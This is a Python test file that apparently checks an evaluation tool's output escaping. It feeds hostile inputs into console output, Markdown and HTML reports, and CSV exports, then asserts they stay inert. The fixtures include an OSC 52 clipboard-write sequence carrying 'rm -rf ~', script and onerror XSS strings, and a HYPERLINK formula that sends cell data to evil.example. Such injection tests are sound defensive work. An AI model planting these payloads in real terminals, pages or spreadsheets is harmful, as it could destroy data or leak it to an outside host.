"""Escape sequences, HTML and spreadsheet formulas from tasks and models stay inert.

The attacks are real: an OSC 52 clipboard write (ESC ] 52 ; c ; <base64> BEL) in a task's
folder name, its instruction and a gold description, run through `audit run`, `audit score`
and `audit report`; a patch naming a file with an escape sequence through `improve
check-patch`; raw HTML in a report's text rendered by a real Markdown renderer with HTML on;
and a ``=HYPERLINK(...)`` cell through the review CSV of build-and-find, read back unchanged.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import polars as pl
import pytest
from markdown_it import MarkdownIt

from metaeval.report.markdown import markdown_table, md_code, md_fence, md_text
from metaeval.safe_text import csv_cell, csv_value, printable

REPO = Path(__file__).resolve().parents[1]
AUDIT_BENCH = REPO / "examples" / "audit-bench"
OSC52 = "\x1b]52;c;cm0gLXJmIH4K\x07"  # "copy `rm -rf ~` to the clipboard"
SHOWN = "\\x1b]52;c;cm0gLXJmIH4K\\x07"
HTML = '<img src=x onerror="alert(1)"><script>alert(2)</script>'
# tags a Markdown renderer makes itself; any other tag in its output came from the input
RENDERER_TAGS = {"p", "code", "pre", "em", "strong", "h1", "h2", "h3", "h4", "ul", "li"}
RENDERER_TAGS |= {"table", "thead", "tbody", "tr", "th", "td", "hr", "blockquote", "ol", "br"}


def cli(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k != "METAEVAL_DEBUG"}
    return subprocess.run(
        [sys.executable, "-m", "metaeval.cli", *args],
        capture_output=True,
        text=True,
        errors="surrogateescape",
        timeout=600,
        cwd=cwd,
        env=env,
        stdin=subprocess.DEVNULL,
    )


def rendered_tags(markdown: str) -> set[str]:
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)
    return {m.lower() for m in re.findall(r"<\s*/?\s*([A-Za-z][A-Za-z0-9]*)", html)}


def assert_inert(text: str, where: str) -> None:
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text, where


# ------------------------------------------------------------------------------ the rules


def test_printable_escapes_every_control_character_but_newline_and_tab() -> None:
    assert printable(f"a{OSC52}b") == f"a{SHOWN}b"
    assert printable("\x9b31m \x7f \r \x00") == "\\x9b31m \\x7f \\x0d \\x00"
    assert printable("line\n\tindented é 名") == "line\n\tindented é 名"
    assert printable("abc\u202edcba") == "abc\\u202edcba"  # bidi override
    undecodable = b"name-\xff".decode("utf-8", "surrogateescape")
    assert printable(undecodable) == "name-\\xff"
    for code in [*range(0x20), 0x7F, *range(0x80, 0xA0)]:
        shown = printable(chr(code))
        assert shown == chr(code) if chr(code) in "\n\t" else shown.startswith("\\x")


@pytest.mark.parametrize(
    "text",
    [
        HTML,
        f"`{HTML}`",  # a code span: shown literally by Markdown, left as it is
        f"`a\n{HTML}\nb`",  # a code span cannot hide a line starting an HTML block
        f"\\`{HTML}\\`",  # escaped backticks open no code span
        f"``{HTML}`",  # unclosed
        f"<!-- {HTML} -->",
        f"<div>\n{HTML}\n</div>",
        f"&lt;b&gt; {HTML} <a href='javascript:alert(3)'>x</a>",
    ],
)
def test_markdown_text_never_renders_input_html(text: str) -> None:
    for markdown in (md_text(text), markdown_table(["h"], [[text]]), md_code(text), md_fence(text)):
        assert rendered_tags(markdown) <= RENDERER_TAGS, markdown


def test_markdown_text_keeps_code_spans_and_shows_text_as_text() -> None:
    assert md_text("write `echo 1 > x` and 1 < 2 & 3 > 2") == (
        "write `echo 1 > x` and 1 &lt; 2 &amp; 3 &gt; 2"
    )
    assert md_text(f"a{OSC52}") == f"a{SHOWN}"
    assert md_code("a ``b`` c") == "```a ``b`` c```"


def test_csv_cells_round_trip_and_quote_formulas() -> None:
    values = ['=HYPERLINK("http://x/?"&A1,"click")', "+1", "-1", "@SUM(A1)", "\tx", "\rx"]
    values += ["'", "'=x", "''", "plain", "", "a=b"]
    for value in values:
        cell = csv_cell(value)
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert csv_value(cell) == value
    assert csv_cell("-1") == "'-1" and csv_value("'hand typed") == "'hand typed"


# ------------------------------------------------------------------------------ the CLI


@pytest.fixture(scope="module")
def hostile_audit(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, dict]:
    """An audit of a copy of the example benchmark with OSC 52 in a task's folder name, in an
    instruction line the report quotes, and in a gold description; plus what each step printed."""
    base = tmp_path_factory.mktemp("osc")
    bench = base / "bench"
    shutil.copytree(AUDIT_BENCH, bench)
    (bench / "sales-revenue").rename(bench / f"sales{OSC52}revenue")
    instruction = bench / "grade-mean" / "instruction.md"
    text = instruction.read_text().replace("`/app/result.json`", f"`/app/result.json` {OSC52}")
    instruction.write_text(text.replace("Compute", f"{HTML} Compute"))
    gold = json.loads((bench / "gold.json").read_text())
    issue = gold["tasks"]["grade-mean"]["issues"][0]
    issue["description"] = f"{OSC52} {HTML} " + issue["description"]
    (bench / "gold.json").write_text(json.dumps(gold))
    run = base / "run"
    printed = {}
    steps = {
        "run": ["audit", "run", str(bench), "--static-only", "--no-execution", "-o", str(run)],
        "score": ["audit", "score", str(run), "--gold", str(bench / "gold.json")],
        "report": ["audit", "report", str(run)],
    }
    for name, argv in steps.items():
        if name == "score":
            argv = [*argv, "--judge", "category"]
        result = cli(*argv)
        assert result.returncode == 0, result.stdout + result.stderr
        printed[name] = result.stdout + result.stderr
    return bench, run, printed


def test_audit_console_output_shows_escape_sequences_escaped(hostile_audit) -> None:
    _, _, printed = hostile_audit
    for step, output in printed.items():
        assert_inert(output, step)
    assert f"sales{SHOWN}revenue" in printed["run"]  # the progress line names the task
    assert SHOWN in printed["score"]  # the gold description in the per-issue table


def test_audit_reports_carry_no_escape_sequence_and_no_input_html(hostile_audit) -> None:
    _, run, _ = hostile_audit
    for name in ("report.md", "score.md"):
        text = (run / name).read_text()
        assert_inert(text, name)
        assert SHOWN in text, name
        assert rendered_tags(text) <= RENDERER_TAGS, name
    report = (run / "report.md").read_text()
    assert f"### sales{SHOWN}revenue" in report
    assert "`/app/result.json` " + SHOWN in report  # the quoted instruction line, in a fence
    html = (run / "report.html").read_text()
    assert "\x1b" not in html and "<script>alert(2)" not in html


def test_an_error_line_naming_a_hostile_path_is_escaped(tmp_path: Path) -> None:
    folder = tmp_path / f"run{OSC52}"
    folder.mkdir()
    result = cli("audit", "report", str(folder))
    assert result.returncode == 2
    assert_inert(result.stderr, "stderr")
    assert f"run{SHOWN}" in result.stderr and "manifest.json" in result.stderr


def test_check_patch_output_escapes_file_names(tmp_path: Path) -> None:
    boundary = tmp_path / "boundary.json"
    boundary.write_text(json.dumps({"mutable_root": "target_agent", "allowed_paths": ["."]}))
    name = f"README{OSC52}.md"
    patch = tmp_path / "change.patch"
    patch.write_text(
        f"diff --git a/{name} b/{name}\n--- a/{name}\n+++ b/{name}\n@@ -1 +1 @@\n-a\n+b\n"
    )
    result = cli("improve", "check-patch", "--boundary", str(boundary), str(patch))
    assert result.returncode == 1, result.stdout + result.stderr
    assert_inert(result.stdout + result.stderr, "check-patch")
    assert f"README{SHOWN}.md" in result.stdout


def test_log_warnings_are_escaped(tmp_path: Path) -> None:
    code = (
        "import logging, sys\n"
        "from metaeval.console import escape_log_output\n"
        "escape_log_output()\n"
        f"logging.getLogger('metaeval.x').warning('torn line in %s', {str(tmp_path / OSC52)!r})\n"
    )
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert_inert(result.stderr, "log")
    assert SHOWN in result.stderr


# ------------------------------------------------------------------------------ CSV


def test_review_csv_quotes_formulas_and_reads_them_back(tmp_path: Path) -> None:
    from metaeval.protocols.buildfind.labels import REVIEW_COLUMNS
    from metaeval.protocols.buildfind.review_csv import read_review_csv, write_review_csv

    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    row = {c: "" for c in REVIEW_COLUMNS} | {
        "task": "t",
        "builder": "b",
        "build_trial": 1,
        "question_id": "q1",
        "question": formula,
        "gold": "-1",
        "observed_answers": "@cmd",
        "notes": "'quoted",
    }
    schema = {c: pl.Int32 if c == "build_trial" else pl.Utf8 for c in REVIEW_COLUMNS}
    path = write_review_csv(pl.DataFrame([row], schema=schema), tmp_path / "review.csv")
    raw = path.read_text()
    assert "'=HYPERLINK" in raw and ",'-1," in raw and "'@cmd" in raw and "''quoted" in raw
    assert ",=" not in raw and ",@" not in raw
    back = read_review_csv(path).row(0, named=True)
    for column in ("question", "gold", "observed_answers", "notes", "task"):
        assert back[column] == row[column], column
    assert back["build_trial"] == 1


def _rows_records() -> list[dict]:
    """A small valid rows table: two formal finds and a question-only control (build_trial -1)."""
    records = []
    for slice_name, builder, build_trial in (("formal", "b1", 0), ("question_only", "", -1)):
        for q, gold in (("q1", "A"), ("q2", "B")):
            records.append(
                {
                    "slice": slice_name,
                    "task": "t1",
                    "builder": builder,
                    "builder_family": "fam" if builder else "",
                    "finder": "f1",
                    "finder_family": "=1+1",
                    "effort_panel": "low",
                    "build_trial": build_trial,
                    "find_trial": 0,
                    "question_id": q,
                    "gold": gold,
                    "answer": gold,
                    "correct": True,
                    "compile_pass": True if builder else None,
                    "label": "unlabeled",
                    "label_source": "none",
                    "novel_retrieval_bytes": 100,
                    "novel_tool_call_bytes": 10,
                    "input_tokens": 1000,
                    "output_tokens": 100,
                }
            )
    return records


def test_rows_and_tables_csv_quote_formulas_and_read_back(tmp_path: Path) -> None:
    from metaeval.protocols.buildfind.rows.table import conform, read_rows, write_rows
    from metaeval.protocols.buildfind.tables.write import write_tables

    rows = conform(pl.DataFrame(_rows_records()))
    parquet, csv = write_rows(rows, tmp_path)
    text = csv.read_text()
    assert ",'=1+1," in text and ",-1," in text  # the text cell quoted, the number not
    assert read_rows(csv).equals(read_rows(parquet))
    assert set(read_rows(csv).get_column("finder_family")) == {"=1+1"}
    write_tables({"extra": pl.DataFrame({"cell": ["@x", "ok"], "n": [-1, 2]})}, tmp_path)
    table = (tmp_path / "tables" / "extra.csv").read_text()
    assert table.splitlines() == ["cell,n", "'@x,-1", "ok,2"]  # numbers stay numbers
